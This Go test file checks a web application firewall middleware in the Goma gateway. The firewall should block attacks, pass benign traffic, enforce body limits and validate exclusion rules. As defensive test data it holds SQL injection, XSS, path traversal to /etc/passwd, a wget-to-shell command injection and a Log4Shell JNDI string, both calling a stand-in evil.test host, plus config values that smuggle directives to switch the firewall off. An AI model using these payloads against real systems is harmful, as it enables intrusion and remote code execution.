// Copyright The Goma Authors
// SPDX-License-Identifier: Apache-2.0

package waf

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"github.com/corazawaf/coraza/v3"

	"gateway.jkaninda.dev/goma/internal/config"
	"gateway.jkaninda.dev/goma/internal/gateway/counter"
	"gateway.jkaninda.dev/goma/internal/gateway/exchange"
	"gateway.jkaninda.dev/goma/internal/gateway/middleware/definition"
	"gateway.jkaninda.dev/goma/internal/gateway/pool"
)

// shared is one pool for all tests, so that equal settings are loaded once.
var shared = pool.New()

// bench is a firewall in front of a backend that reads everything.
type bench struct {
	h        http.Handler
	log      *bytes.Buffer
	counters *counter.Set
	hits     int
	body     string
	err      error
}

func newBench(t testing.TB, rule string, paths ...string) *bench {
	t.Helper()
	parsed, problems := parse(json.RawMessage(rule))
	if parsed == nil {
		t.Fatal(problems)
	}
	b := &bench{log: &bytes.Buffer{}, counters: counter.New()}
	var err error
	b.h, err = parsed.Handler(definition.Build{
		Name: t.Name(), Paths: paths, Route: definition.RouteInfo{Name: "shop", Path: "/"}, Pool: shared, Track: t.Cleanup,
		Counters: b.counters, Logger: slog.New(slog.NewTextHandler(b.log, nil)),
	}, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		b.hits++
		data, err := io.ReadAll(r.Body)
		b.body, b.err = string(data), err
	}))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func get(target string, header ...string) *http.Request {
	return post(http.MethodGet, target, nil, header...)
}

func post(method, target string, body io.Reader, header ...string) *http.Request {
	r := httptest.NewRequest(method, target, body)
	r.Header.Set("User-Agent", "Mozilla/5.0")
	r.Header.Set("Accept", "*/*")
	for i := 0; i < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	x := &exchange.Exchange{ClientIP: netip.MustParseAddr("192.0.2.1"), Path: r.URL.Path, Route: "shop"}
	return r.WithContext(exchange.With(r.Context(), x))
}

func (b *bench) send(r *http.Request) *httptest.ResponseRecorder {
	w := httptest.NewRecorder()
	b.h.ServeHTTP(w, r)
	return w
}

func TestAttacksAreRefusedBeforeTheBackend(t *testing.T) { // M4, M29, P4
	t.Parallel()
	b := newBench(t, `{}`)
	for _, r := range []*http.Request{
		get("/?q=1%20UNION%20SELECT%20password%20FROM%20users"),
		get("/?q=1+union+all+select+1,2,3--"),
		get("/?q=1'%20or%20'1'='1"),
		get("/?q=x;drop%20table%20users--"),
		get("/?a=1;q=1'%20or%20'1'='1"),
		get("/?f=../../etc/passwd"),
		get("/?f=..%2f..%2fetc%2fpasswd"),
		get("/?f=..%252f..%252fetc%252fpasswd"),
		get("/?q=<script>alert(1)</script>"),
		get("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
		get("/?q=;cat%20/etc/passwd"),
		get("/?q=$(wget%20http://evil.test/x%20-O-|sh)"),
		get("/.git/config"),
		get("/", "User-Agent", "sqlmap/1.7"),
		get("/", "X-Api", "${jndi:ldap://evil.test/a}"),
		get("/", "Cookie", "a=1' or '1'='1"),
		post("POST", "/", strings.NewReader("q=1'+or+'1'='1"), "Content-Type", "application/x-www-form-urlencoded"),
		post("POST", "/", strings.NewReader(`{"a":{"b":["<script>alert(1)</script>"]}}`), "Content-Type", "application/json"),
		post("PUT", "/", strings.NewReader(`{"a":"1' or '1'='1"}`), "Content-Type", "application/vnd.api+json; charset=utf-8"),
		post("POST", "/", strings.NewReader(`<a><b>1' or '1'='1</b></a>`), "Content-Type", "text/xml"),
		post("POST", "/", unsized("q=1'+or+'1'='1"), "Content-Type", "application/x-www-form-urlencoded"),
		post("POST", "/", zipped("q=1'+or+'1'='1"), "Content-Type", "application/x-www-form-urlencoded", "Content-Encoding", "gzip"),
		post("POST", "/", form("file", "1' or '1'='1"), "Content-Type", "multipart/form-data; boundary=B"),
	} {
		w := b.send(r)
		if w.Code != http.StatusForbidden || w.Body.Len() == 0 || exchange.Of(r).Reason != "waf" {
			t.Errorf("%s %s %v: status %d", r.Method, r.URL, r.Header, w.Code)
		}
	}
	if b.hits != 0 {
		t.Errorf("the backend saw %d requests", b.hits)
	}
	if log := b.log.String(); !strings.Contains(log, "action=refused") || strings.Contains(log, "passwd") || strings.Contains(log, "UNION") {
		t.Errorf("the log says\n%s", log) // B5
	}
}

// unsized is a body without a length, which is sent in chunks.
func unsized(text string) io.Reader { return struct{ io.Reader }{strings.NewReader(text)} }

func zipped(text string) io.Reader {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = io.WriteString(w, text)
	_ = w.Close()
	return &b
}

func form(name, value string) io.Reader {
	return strings.NewReader("--B\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n--B--\r\n")
}

func TestWhatIsNoAttackPassesAsItCame(t *testing.T) { // M29
	t.Parallel()
	b := newBench(t, `{}`)
	for _, c := range []struct {
		r    *http.Request
		body string
	}{
		{get("/?q=update"), ""},
		{get("/?q=it--is"), ""},
		{get("/?q=Tom's+and+Anna's"), ""},
		{get("/?q=select+a+colour"), ""},
		{get("/?q=a;b"), ""},
		{get("/?redirect=https://example.com/a?b=c"), ""},
		{get("/files/a..b"), ""},
		{get("/", "Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"), ""},
		{post("DELETE", "/users/1", nil), ""},
		{post("PATCH", "/", strings.NewReader(`{"name":"O'Brien"}`), "Content-Type", "application/json"), `{"name":"O'Brien"}`},
		{post("POST", "/", unsized("a=1&b=2"), "Content-Type", "application/x-www-form-urlencoded"), "a=1&b=2"},
		{post("POST", "/", form("a", "some text"), "Content-Type", "multipart/form-data; boundary=B"), "--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nsome text\r\n--B--\r\n"},
		{post("POST", "/", strings.NewReader("\x00\x01' or 1=1"), "Content-Type", "application/octet-stream"), "\x00\x01' or 1=1"},
		{post("POST", "/", strings.NewReader("\x00\x00"), "Content-Type", "application/grpc+proto"), "\x00\x00"},
		{post("POST", "/", strings.NewReader("plain"), "Content-Type", "text/plain"), "plain"},
	} {
		hits := b.hits
		if w := b.send(c.r); w.Code != 200 || b.hits != hits+1 || b.body != c.body || b.err != nil {
			t.Errorf("%s %s: status %d, body %q, %v\n%s", c.r.Method, c.r.URL, w.Code, b.body, b.err, b.log)
		}
	}
	packed, _ := io.ReadAll(zipped(`{"a":"b"}`))
	w := b.send(post("POST", "/", bytes.NewReader(packed), "Content-Type", "application/json", "Content-Encoding", "gzip"))
	if w.Code != 200 || b.body != string(packed) {
		t.Errorf("a packed body does not arrive as it came: status %d\n%s", w.Code, b.log)
	}
}

func TestDetectModeRefusesNothingAndTells(t *testing.T) { // M29
	t.Parallel()
	b := newBench(t, `{"mode":"Detect","bodyLimit":16}`)
	for i, r := range []*http.Request{
		get("/?q=1'%20or%20'1'='1"),
		post("POST", "/", strings.NewReader(strings.Repeat("a", 40)), "Content-Type", "text/plain"),
		post("POST", "/", strings.NewReader("x"), "Content-Type", "text/plain", "Content-Encoding", "br"),
		post("POST", "/", strings.NewReader(`{"broken`), "Content-Type", "application/json"),
	} {
		if w := b.send(r); w.Code != 200 || b.hits != i+1 {
			t.Errorf("request %d: status %d", i, w.Code)
		}
	}
	if log := b.log.String(); strings.Count(log, "action=detected") < 1 || !strings.Contains(log, "942") || !strings.Contains(log, "middleware="+t.Name()) {
		t.Errorf("the log says\n%s", log)
	}
}

func TestLongBodiesFollowTheRule(t *testing.T) { // M29
	t.Parallel()
	const kind = "application/x-www-form-urlencoded"
	late := strings.Repeat("a", 2000) + "&q=1'+or+'1'='1"
	early := "q=1'+or+'1'='1&b=" + strings.Repeat("a", 2000)
	harmless := "b=" + strings.Repeat("a", 2000)
	for _, c := range []struct {
		name, rule, body string
		status           int
	}{
		{"exactly the limit passes", `{"bodyLimit":2002}`, harmless, 200},
		{"one byte more does not", `{"bodyLimit":2001}`, harmless, 413},
		{"partial: the rest passes unread", `{"bodyLimit":1000,"onBodyLimit":"partial"}`, late, 200},
		{"partial: the beginning is read", `{"bodyLimit":1000,"onBodyLimit":"partial"}`, early, 403},
		{"all is read within the limit", `{"bodyLimit":"1Mi"}`, late, 403},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			for _, body := range []io.Reader{strings.NewReader(c.body), unsized(c.body)} {
				b := newBench(t, c.rule)
				if w := b.send(post("POST", "/", body, "Content-Type", kind)); w.Code != c.status {
					t.Errorf("status %d, want %d: %s", w.Code, c.status, w.Body)
				}
				if c.status == 200 && b.body != c.body {
					t.Errorf("%d bytes arrive, %d were sent", len(b.body), len(c.body))
				}
				if c.status != 200 && b.hits != 0 {
					t.Error("the backend is asked")
				}
			}
		})
	}
}

func TestAPackedBodyIsUnpackedWithinBounds(t *testing.T) { // M29
	t.Parallel()
	b := newBench(t, `{"bodyLimit":"64Ki"}`)
	bomb := zipped("a=" + strings.Repeat("0", 10<<20))
	for name, c := range map[string]struct {
		r      *http.Request
		status int
	}{
		"a bomb":               {post("POST", "/", bomb, "Content-Type", "text/plain", "Content-Encoding", "gzip"), 413},
		"twice packed":         {post("POST", "/", zipped(read(zipped("q=1' or '1'='1"))), "Content-Type", "application/x-www-form-urlencoded", "Content-Encoding", "gzip, x-gzip"), 403},
		"not packed at all":    {post("POST", "/", strings.NewReader("q=1"), "Content-Type", "text/plain", "Content-Encoding", "gzip"), 400},
		"packed by an unknown": {post("POST", "/", strings.NewReader("q=1"), "Content-Type", "text/plain", "Content-Encoding", "br"), 415},
		"broken JSON":          {post("POST", "/", strings.NewReader(`{"a":`), "Content-Type", "application/json"), 400},
	} {
		if w := b.send(c.r); w.Code != c.status {
			t.Errorf("%s: status %d, want %d", name, w.Code, c.status)
		}
	}
	if b.hits != 0 {
		t.Errorf("the backend saw %d requests", b.hits)
	}
}

func read(r io.Reader) string {
	data, _ := io.ReadAll(r)
	return string(data)
}

func TestABodyThatBreaksOffNeverArrives(t *testing.T) { // H8
	t.Parallel()
	b := newBench(t, `{"mode":"detect"}`)
	broken := io.MultiReader(strings.NewReader("a=1"), failing{})
	if w := b.send(post("POST", "/", broken, "Content-Type", "text/plain")); w.Code != 400 || b.hits != 0 {
		t.Errorf("status %d, %d hits", w.Code, b.hits)
	}
}

type failing struct{}

func (failing) Read([]byte) (int, error) { return 0, errors.New("the connection broke") }

func TestABodyThatIsNoTextStreams(t *testing.T) { // M29, M5
	t.Parallel()
	in, out := io.Pipe()
	first := make(chan string)
	parsed, _ := parse(nil)
	h, err := parsed.Handler(definition.Build{Name: t.Name(), Pool: shared, Track: t.Cleanup}, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		p := make([]byte, 3)
		_, _ = io.ReadFull(r.Body, p)
		first <- string(p)
		_, _ = io.Copy(io.Discard, r.Body)
	}))
	if err != nil {
		t.Fatal(err)
	}
	var done sync.WaitGroup
	done.Go(func() {
		h.ServeHTTP(httptest.NewRecorder(), post("POST", "/", in, "Content-Type", "application/grpc"))
	})
	if _, err := io.WriteString(out, "one"); err != nil {
		t.Fatal(err)
	}
	if got := <-first; got != "one" {
		t.Errorf("%q arrives first", got)
	}
	_ = out.Close()
	done.Wait()
}

func TestExclusionsTakeRulesOut(t *testing.T) { // M29
	t.Parallel()
	sqli := func(path, argument string) *http.Request {
		return get(path + "?" + argument + "=1%20UNION%20SELECT%20password%20FROM%20users")
	}
	const xss = "/?q=<script>alert(1)</script>"
	for _, c := range []struct {
		name, exclusion string
		r               *http.Request
		status          int
	}{
		{"a range everywhere", `{"rules":["942000-942999"]}`, sqli("/", "q"), 200},
		{"and nothing else", `{"rules":["942000-942999"]}`, get(xss), 403},
		{"a tag", `{"tags":["attack-sqli"]}`, sqli("/", "q"), 200},
		{"a tag, and nothing else", `{"tags":["attack-sqli"]}`, get(xss), 403},
		{"below a path", `{"tags":["attack-sqli"],"paths":["/admin"]}`, sqli("/Admin/query", "q"), 200},
		{"beside the path", `{"tags":["attack-sqli"],"paths":["/admin"]}`, sqli("/administrator", "q"), 403},
		{"an expression", `{"tags":["attack-sqli"],"paths":["^/v[0-9]+/sql$"]}`, sqli("/v2/sql", "q"), 200},
		{"beside the expression", `{"tags":["attack-sqli"],"paths":["^/v[0-9]+/sql$"]}`, sqli("/v2/sql/x", "q"), 403},
		{"the second of two paths", `{"tags":["attack-sqli"],"paths":["/a","/b.c/*"]}`, sqli("/b.c/d", "q"), 200},
		{"a point is a point", `{"tags":["attack-sqli"],"paths":["/b.c/*"]}`, sqli("/bxc/d", "q"), 403},
		{"an argument", `{"rules":["942000-942999"],"arguments":["sql"]}`, sqli("/", "sql"), 200},
		{"another argument", `{"rules":["942000-942999"],"arguments":["sql"]}`, sqli("/", "q"), 403},
		{"an argument of a path", `{"tags":["attack-sqli"],"arguments":["a","sql"],"paths":["/x"]}`, sqli("/x", "sql"), 200},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b := newBench(t, fmt.Sprintf(`{"exclusions":[%s]}`, c.exclusion))
			if w := b.send(c.r); w.Code != c.status {
				t.Errorf("status %d, want %d\n%s", w.Code, c.status, b.log)
			}
		})
	}
}

func TestTheLevelAndTheThresholdDecide(t *testing.T) {
	t.Parallel()
	odd := func() *http.Request { return get("/?q=a'b\"c;d`e") }
	if w := newBench(t, `{}`).send(odd()); w.Code != 200 {
		t.Errorf("at the first level: status %d", w.Code)
	}
	if w := newBench(t, `{"paranoiaLevel":4}`).send(odd()); w.Code != 403 {
		t.Errorf("at the fourth level: status %d", w.Code)
	}
	if w := newBench(t, `{"anomalyThreshold":1000}`).send(get("/?q=1'%20or%20'1'='1")); w.Code != 200 {
		t.Errorf("with a high threshold: status %d", w.Code)
	}
}

func TestOnlyTheCoveredPathsAreLookedAt(t *testing.T) {
	t.Parallel()
	b := newBench(t, `{}`, "/a")
	if w := b.send(get("/a/x?q=1'%20or%20'1'='1")); w.Code != 403 {
		t.Errorf("status %d", w.Code)
	}
	if w := b.send(get("/b?q=1'%20or%20'1'='1")); w.Code != 200 {
		t.Errorf("status %d", w.Code)
	}
}

func TestEqualSettingsShareOneRuleSet(t *testing.T) { // D3
	t.Parallel()
	p := pool.New()
	var releases []func()
	handlerOf := func(rule, name string) *engine {
		parsed, _ := parse(json.RawMessage(rule))
		h, err := parsed.Handler(definition.Build{Name: name, Pool: p, Track: func(release func()) { releases = append(releases, release) }}, nil)
		if err != nil {
			t.Fatal(err)
		}
		return h.(*handler).engine
	}
	a, b := handlerOf(`{}`, "a"), handlerOf(`{"mode":"BLOCK","bodyLimit":1048576}`, "b")
	if a != b || handlerOf(`{"mode":"detect"}`, "c") == a {
		t.Error("rule sets are shared wrongly")
	}
	for _, release := range releases {
		release()
	}
	if p.Len() != 0 {
		t.Errorf("%d values are left", p.Len())
	}
}

func TestWhatIsFoundIsCountedByRule(t *testing.T) {
	t.Parallel()
	b := newBench(t, `{}`)
	for range 3 {
		b.send(get("/?q=<script>alert(1)</script>"))
	}
	b.send(get("/"))
	m := b.h.(*handler).matches
	if m.refused.Load() != 3 || m.byRule[941110] == nil || m.byRule[941110].Load() != 3 {
		t.Errorf("%d refused, %v", m.refused.Load(), m.byRule)
	}
	for id := range m.byRule {
		if id < firstRule || id > lastRule {
			t.Errorf("rule %d is counted", id)
		}
	}
}

func TestNothingIsLoadedForACheck(t *testing.T) {
	t.Parallel()
	p := pool.New()
	if _, err := Default().Handler(definition.Build{Pool: p, Track: t.Cleanup, CheckOnly: true}, nil); err != nil || p.Len() != 0 {
		t.Errorf("%v, %d values", err, p.Len())
	}
}

func TestARuleThatCannotBeMeantIsRefused(t *testing.T) { // C6
	t.Parallel()
	for rule, field := range map[string]string{
		`{"mode":"on"}`:                                                       "rule.mode",
		`{"paranoiaLevel":5}`:                                                 "rule.paranoiaLevel",
		`{"paranoiaLevel":0}`:                                                 "rule.paranoiaLevel",
		`{"anomalyThreshold":0}`:                                              "rule.anomalyThreshold",
		`{"bodyLimit":"65Mi"}`:                                                "rule.bodyLimit",
		`{"bodyLimit":0}`:                                                     "rule.bodyLimit",
		`{"bodyLimit":"big"}`:                                                 "rule.bodyLimit",
		`{"bodyLimit":[1]}`:                                                   "rule.bodyLimit",
		`{"onBodyLimit":"pass"}`:                                              "rule.onBodyLimit",
		`{"exclusions":[{}]}`:                                                 "rule.exclusions[0]",
		`{"exclusions":[{"rules":["949110"]}]}`:                               "rule.exclusions[0].rules[0]",
		`{"exclusions":[{"rules":[942]}]}`:                                    "rule.exclusions[0].rules[0]",
		`{"exclusions":[{"rules":["942999-942000"]}]}`:                        "rule.exclusions[0].rules[0]",
		`{"exclusions":[{"rules":[942100,"911000-980000"]}]}`:                 "rule.exclusions[0].rules[1]",
		`{"exclusions":[{"tags":["a\",ctl:ruleEngine=Off,tag:\"b"]}]}`:        "rule.exclusions[0].tags[0]", // T8
		`{"exclusions":[{"tags":["a"],"arguments":["a,ctl:x"]}]}`:             "rule.exclusions[0].arguments[0]",
		`{"exclusions":[{"tags":["a"],"paths":["/a\"\nSecRuleEngine Off"]}]}`: "rule.exclusions[0].paths[0]",
		`{"exclusions":[{"tags":["a"],"paths":["/a("]}]}`:                     "rule.exclusions[0].paths[0]",
	} {
		if parsed, problems := parse(json.RawMessage(rule)); parsed != nil || len(problems) != 1 || problems[0].Field != field {
			t.Errorf("%s: %v", rule, problems)
		}
	}
}

// FuzzParse also loads the exclusions that a rule may hold, without the rule set.
func FuzzParse(f *testing.F) { // C10, T8
	f.Add(`{"exclusions":[{"rules":[942100],"tags":["attack-sqli"],"paths":["/a","^/b$"],"arguments":["q"]}]}`)
	f.Add(`{"exclusions":[{"rules":[942100],"paths":["/a\\"]}]}`)
	f.Fuzz(func(t *testing.T, rule string) {
		parsed, problems := parse(json.RawMessage(rule))
		if (parsed == nil) != config.HasErrors(problems) {
			t.Fatalf("rule %v with problems %v", parsed, problems)
		}
		if parsed != nil {
			loads(t, parsed)
		}
	})
}

func BenchmarkInspect(b *testing.B) {
	x := newBench(b, `{}`)
	r := get("/api/users?id=1&name=ann")
	w := httptest.NewRecorder()
	b.ReportAllocs()
	for b.Loop() {
		x.h.ServeHTTP(w, r)
	}
}

// loads tells that the directives made of a rule are what they should be.
func loads(t *testing.T, parsed definition.Rule) {
	t.Helper()
	key := parsed.(*rule).key
	text := key.directives()
	head, _, _ := strings.Cut(text, "Include ")
	if _, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives(head)); err != nil {
		t.Fatalf("%v in\n%s", err, head)
	}
}
